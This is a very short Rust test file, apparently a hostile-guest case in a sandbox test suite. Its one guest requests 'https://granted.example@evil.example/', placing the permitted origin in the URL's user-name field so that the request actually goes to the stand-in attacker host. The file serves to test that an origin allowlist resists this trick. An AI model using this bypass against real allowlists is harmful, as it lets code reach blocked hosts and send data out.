//! Sends to the granted origin as a user name, at somebody else.

use stockbridge_hostile_guests::*;

guest!(query = |_| sent(request("https://granted.example@evil.example/")));
